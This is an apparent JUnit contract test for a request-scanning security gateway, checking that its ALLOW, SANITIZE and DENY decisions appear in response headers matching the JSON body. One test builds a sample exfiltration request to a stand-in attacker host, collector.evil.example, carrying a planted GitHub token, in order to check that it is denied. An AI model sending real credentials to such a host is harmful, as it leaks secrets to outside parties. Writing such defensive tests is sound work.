package io.interven.gateway.contract;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.interven.gateway.testing.HttpResult;
import io.interven.gateway.testing.TenantFixture;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/**
 * Every answer that carries a decision says it in headers too, as the API reference lists them:
 * {@code X-Interven-Decision}, {@code X-Interven-Trace-Id} and, when there are reason codes,
 * {@code X-Interven-Reasons}; the headers agree with the JSON answer. Answers without a decision carry none.
 */
abstract class DecisionHeadersContract extends GatewayContract {

    static void assertHeadersAgreeWithTheBody(HttpResult answer) {
        assertThat(answer.status()).isEqualTo(200);
        JsonNode json = answer.json();
        assertThat(answer.headers().allValues("X-Interven-Decision")).containsExactly(json.get("decision").asText());
        assertThat(answer.headers().allValues("X-Interven-Trace-Id")).containsExactly(json.get("trace_id").asText());
        List<String> reasons = new ArrayList<>();
        json.get("reason_codes").forEach(code -> reasons.add(code.asText()));
        if (reasons.isEmpty()) {
            assertThat(answer.headers().firstValue("X-Interven-Reasons")).isEmpty();
        } else {
            assertThat(answer.headers().allValues("X-Interven-Reasons")).containsExactly(String.join(",", reasons));
        }
    }

    @Test
    void anAllowedScanSaysSoInHeadersWithoutReasons() {
        HttpResult answer = newTenant().scan(Map.of("method", "POST",
                "url", "https://hooks.slack.com/services/T../B../secret", "body", Map.of("text", "hello")));

        assertHeadersAgreeWithTheBody(answer);
        assertThat(answer.headers().firstValue("X-Interven-Decision")).hasValue("ALLOW");
        assertThat(answer.headers().firstValue("X-Interven-Reasons")).isEmpty();
    }

    @Test
    void aSanitizedScanListsItsReasons() {
        HttpResult answer = newTenant().scan(Map.of("method", "POST", "url", "https://hooks.slack.com/services/T1/B1/x",
                "body", Map.of("text", "deploy with " + PlantedValues.GITHUB_TOKEN)));

        assertHeadersAgreeWithTheBody(answer);
        assertThat(answer.headers().firstValue("X-Interven-Decision")).hasValue("SANITIZE");
        assertThat(answer.headers().firstValue("X-Interven-Reasons").orElseThrow()).contains("SECRETS");
    }

    @Test
    void aDeniedScanIsA200AnswerWithTheDecisionInHeaders() {
        HttpResult answer = newTenant().scan(Map.of("method", "GET", "url", "https://collector.evil.example/upload",
                "headers", Map.of("Authorization", "Bearer " + PlantedValues.GITHUB_TOKEN)));

        assertHeadersAgreeWithTheBody(answer);
        assertThat(answer.headers().firstValue("X-Interven-Decision")).hasValue("DENY");
        assertThat(answer.headers().firstValue("X-Interven-Reasons").orElseThrow())
                .contains("CREDENTIAL_HOST_MISMATCH");
    }

    @Test
    void anAgentToAgentScanSaysItsDecisionInHeaders() {
        TenantFixture tenant = newTenant();
        HttpResult answer = tenant.gateway().post(A2aScanContract.PATH, tenant.key(),
                A2aScanContract.referenceExample(UUID.randomUUID().toString(), UUID.randomUUID().toString()));

        assertHeadersAgreeWithTheBody(answer);
        assertThat(answer.headers().firstValue("X-Interven-Decision")).isPresent();
    }

    @Test
    void anAnswerWithoutADecisionCarriesNoDecisionHeaders() {
        TenantFixture tenant = newTenant();
        HttpResult invalid = tenant.scan(Map.of("method", "POST"));
        HttpResult unauthenticated = tenant.gateway().post("/v1/scan", null, Map.of("method", "GET",
                "url", "https://example.com/"));
        HttpResult traces = tenant.gateway().get("/v1/traces?limit=1", tenant.key());

        for (HttpResult answer : List.of(invalid, unauthenticated, traces)) {
            assertThat(answer.headers().map().keySet()).as(answer.text())
                    .noneMatch(name -> name.toLowerCase().startsWith("x-interven-"));
        }
        assertThat(invalid.status()).isEqualTo(400);
        assertThat(unauthenticated.status()).isEqualTo(401);
    }
}
